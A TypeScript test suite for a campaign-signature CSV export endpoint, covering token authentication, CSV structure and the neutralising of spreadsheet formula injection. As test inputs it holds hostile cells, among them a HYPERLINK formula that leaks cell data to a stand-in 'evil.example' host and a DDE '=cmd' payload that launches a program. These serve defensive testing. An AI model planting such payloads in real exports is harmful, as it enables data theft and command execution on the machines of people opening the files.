import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { checkExportToken } from '../src/routes/export.ts';
import { neutraliseCell } from '../src/csv-export.ts';
import { EXPORT_TOKEN, csvRecords, getCsv, parseCsv, postForm, postJson, signature, startServer, type TestServer } from './helpers.ts';
import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';

describe('GET /api/campaigns/:campaign/signatures.csv', () => {
  let server: TestServer;
  before(async () => {
    server = await startServer();
    await postJson(server.url, signature({ campaign: 'export' }, { firstName: 'Aigerim', comment: 'Line 1\nLine "2", with comma' }));
  });
  after(async () => server.close());

  test('no Authorization: 401 with WWW-Authenticate and no data', async () => {
    const response = await getCsv(server.url, 'export', null);
    assert.equal(response.status, 401);
    assert.match(response.headers.get('www-authenticate') ?? '', /^Bearer/);
    assert.doesNotMatch(response.text, /Aigerim|example\.org/);
    assert.equal(JSON.parse(response.text.replace(/^\uFEFF/, '')).error, 'unauthorized');
  });

  test('wrong token or wrong scheme: refused, no data', async () => {
    const wrong = await getCsv(server.url, 'export', 'test-export-token-wrong-wrong');
    assert.equal(wrong.status, 403);
    assert.doesNotMatch(wrong.text, /Aigerim/);
    const prefix = await getCsv(server.url, 'export', EXPORT_TOKEN.slice(0, -1));
    assert.equal(prefix.status, 403);
    const basic = await fetch(`${server.url}/api/campaigns/export/signatures.csv`, {
      headers: { authorization: `Basic ${Buffer.from(`x:${EXPORT_TOKEN}`).toString('base64')}` },
    });
    assert.equal(basic.status, 401);
  });

  test('right token: CSV with a header and every payload column, no-store, attachment', async () => {
    const response = await getCsv(server.url, 'export');
    assert.equal(response.status, 200);
    assert.match(response.headers.get('content-type') ?? '', /^text\/csv/);
    assert.match(response.headers.get('content-disposition') ?? '', /attachment; filename="export-signatures-\d{4}-\d{2}-\d{2}\.csv"/);
    assert.equal(response.headers.get('cache-control'), 'no-store');
    assert.ok(response.text.startsWith('\uFEFF'), 'UTF-8 BOM for spreadsheets');
    const [header] = parseCsv(response.text);
    for (const column of ['id', 'created_at', 'received_at', 'locale', 'first_name', 'last_name', 'name', 'email', 'country',
      'postcode', 'organisation', 'phone', 'comment', 'consent_updates', 'consent_text', 'message_subject', 'message_body',
      'source_url', 'referrer', 'utm_source', 'utm_medium', 'utm_campaign', 'utm_term', 'utm_content']) {
      assert.ok(header?.includes(column), column);
    }
    const [row] = csvRecords(response.text);
    assert.equal(row?.first_name, 'Aigerim');
    assert.equal(row?.comment, 'Line 1\nLine "2", with comma');
    assert.equal(row?.consent_updates, 'yes');
    assert.equal(row?.utm_medium, 'share');
    assert.match(row?.received_at ?? '', /^\d{4}-\d{2}-\d{2}T/);
  });

  test('an unknown campaign gives the header only', async () => {
    const response = await getCsv(server.url, 'nobody-signed');
    assert.equal(response.status, 200);
    assert.equal(parseCsv(response.text).length, 1);
  });

  test('formula-looking cells come out inert', async () => {
    const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1', '-2', '@SUM(A1:A9)', '\t=1+1', ' =1+1'];
    await postJson(server.url, signature({ campaign: 'formulas' }, { firstName: formulas[0], lastName: formulas[1], organisation: formulas[2], postcode: formulas[3] }));
    await postForm(server.url, {
      id: randomUUID(), campaign: 'formulas', created_at: '2026-11-27T18:00:00Z', email: 'formula@example.org',
      first_name: formulas[5]!, comment: formulas[4]!, message_body: '=cmd|\' /C calc\'!A0',
    });
    const records = csvRecords((await getCsv(server.url, 'formulas')).text);
    assert.equal(records.length, 2);
    const cells = records.flatMap((record) => Object.values(record));
    for (const value of cells) {
      assert.doesNotMatch(value, /^\s*[=+\-@]|^[\t\r]/, `cell ${JSON.stringify(value)} is live`);
    }
    assert.equal(records[0]?.first_name, `'${formulas[0]}`);
    assert.equal(records[0]?.last_name, "'+1");
    assert.equal(records[0]?.organisation, "'-2");
    assert.equal(records[0]?.postcode, "'@SUM(A1:A9)");
  });

  test('exports stream across pages in insertion order', async () => {
    for (let index = 0; index < 12; index++) await postJson(server.url, signature({ campaign: 'paged' }, { firstName: `n${index}` }));
    const { signaturesCsvStream } = await import('../src/csv-export.ts');
    let text = '';
    for await (const chunk of signaturesCsvStream(server.app.signatureStore, 'paged', 5)) text += String(chunk);
    assert.deepEqual(csvRecords(text).map((record) => record.first_name), Array.from({ length: 12 }, (_, index) => `n${index}`));
  });
});

describe('export disabled', () => {
  let server: TestServer;
  before(async () => {
    server = await startServer({ EXPORT_TOKEN: '' });
  });
  after(async () => server.close());

  test('no EXPORT_TOKEN configured: 403 export-disabled for everyone', async () => {
    for (const token of [null, 'anything-anything-anything']) {
      const response = await getCsv(server.url, 'export', token);
      assert.equal(response.status, 403);
      assert.equal(JSON.parse(response.text.replace(/^\uFEFF/, '')).error, 'export-disabled');
    }
  });
});

test('neutraliseCell and checkExportToken units', () => {
  assert.equal(neutraliseCell('Aigerim'), 'Aigerim');
  assert.equal(neutraliseCell('=1'), "'=1");
  // The segment after the CR is quoted too: a spreadsheet that ends the row at CR starts a cell there.
  assert.equal(neutraliseCell('\r=1'), "'\r'=1");
  assert.equal(neutraliseCell('a=1'), 'a=1');
  assert.equal(checkExportToken({ exportToken: 'x'.repeat(16), adminToken: undefined }, `Bearer ${'x'.repeat(16)}`), undefined);
  assert.equal(checkExportToken({ exportToken: 'x'.repeat(16), adminToken: undefined }, `bearer   ${'x'.repeat(16)}`), undefined);
  assert.equal(checkExportToken({ exportToken: 'x'.repeat(16), adminToken: undefined }, 'Bearer')?.status, 401);
  assert.equal(checkExportToken({ exportToken: 'x'.repeat(16), adminToken: undefined }, `Bearer ${'x'.repeat(17)}`)?.status, 403);
});

describe('CSV structure and formula neutralising (security review, finding 1)', () => {
  let server: TestServer;
  /** Hostile values → what the export must hold for them (the neutralising quotes written out). */
  const CASES: [string, string][] = [
    ['Line 1\n=HYPERLINK("http://evil.example","x")\nforged,row', 'Line 1\n\'=HYPERLINK("http://evil.example","x")\nforged,row'],
    ['a\r=1+1', "a\r'=1+1"],
    ['I sign\n00000000-0000-4000-8000-000000000000 =1+1', "I sign\n00000000-0000-4000-8000-000000000000 =1+1"],
    ['Bonjour;=1+1', "Bonjour;'=1+1"],
    ['Hallo\t-2+3', "Hallo\t'-2+3"],
    ['x, @SUM(A1)', "x,' @SUM(A1)"],
    ['\uFF1D1+1', "'\uFF1D1+1"],
    ['\uFF0B1', "'\uFF0B1"],
    ['\uFF0D1', "'\uFF0D1"],
    ['\uFF20SUM(1)', "'\uFF20SUM(1)"],
    ['ok;"=1+1"', 'ok;\'"=1+1"'],
    ['plain text; nothing to see', 'plain text; nothing to see'],
  ];
  before(async () => {
    server = await startServer();
    for (const [value] of CASES) {
      await postJson(server.url, signature({ campaign: 'forgery', message: { subject: 'Subject', body: value } }, { comment: value }));
    }
  });
  after(async () => server.close());

  test('a real CSV parser reads one record per signature, with the exact values', async () => {
    const { text } = await getCsv(server.url, 'forgery');
    // Any of CRLF, LF or CR ends a record, as spreadsheets read a CSV: a bare newline must be quoted.
    const records = parse(text, { bom: true, columns: true, record_delimiter: ['\r\n', '\n', '\r'] }) as Record<string, string>[];
    assert.equal(records.length, CASES.length, `${records.length} records for ${CASES.length} signatures`);
    CASES.forEach(([, expected], index) => {
      assert.equal(records[index]?.comment, expected, `comment ${index}`);
      assert.equal(records[index]?.message_body, expected, `message_body ${index}`);
    });
  });
});

test('neutraliseCell: every segment a spreadsheet may split off starts inert', () => {
  assert.equal(neutraliseCell('a;=1'), "a;'=1");
  assert.equal(neutraliseCell('a\t+1'), "a\t'+1");
  assert.equal(neutraliseCell('a\n@x'), "a\n'@x");
  assert.equal(neutraliseCell('a,-1'), "a,'-1");
  assert.equal(neutraliseCell('\uFF1D1'), "'\uFF1D1");
  assert.equal(neutraliseCell('\t'), "'\t");
  // A separator right at the start: the segment behind it is quoted as well (LibreOffice, TAB import).
  assert.equal(neutraliseCell('\t=1+1'), "'\t'=1+1");
  assert.equal(neutraliseCell('1;2,3'), '1;2,3');
  assert.equal(neutraliseCell('a - b'), 'a - b');
});
